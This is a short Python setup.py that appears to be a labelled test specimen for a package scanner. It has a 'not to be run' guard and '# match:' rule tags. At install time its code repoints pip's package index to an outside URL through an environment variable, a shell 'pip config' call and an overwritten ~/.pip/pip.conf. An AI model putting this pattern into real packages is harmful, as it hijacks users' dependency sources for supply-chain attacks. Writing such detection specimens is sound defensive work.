raise SystemExit("specimen: not to be run")
import os
from setuptools import setup

os.environ["PIP_INDEX_URL"] = "https://files.example.com/simple"  # match: package-index-change
os.system("pip config set global.index-url https://files.example.com/simple")  # match: package-index-change  # match: process-at-install
with open(os.path.expanduser("~/.pip/pip.conf"), "w") as settings:  # match: package-index-change
    settings.write("[global]\nindex-url = https://files.example.com/simple\n")
setup(name="specimen")
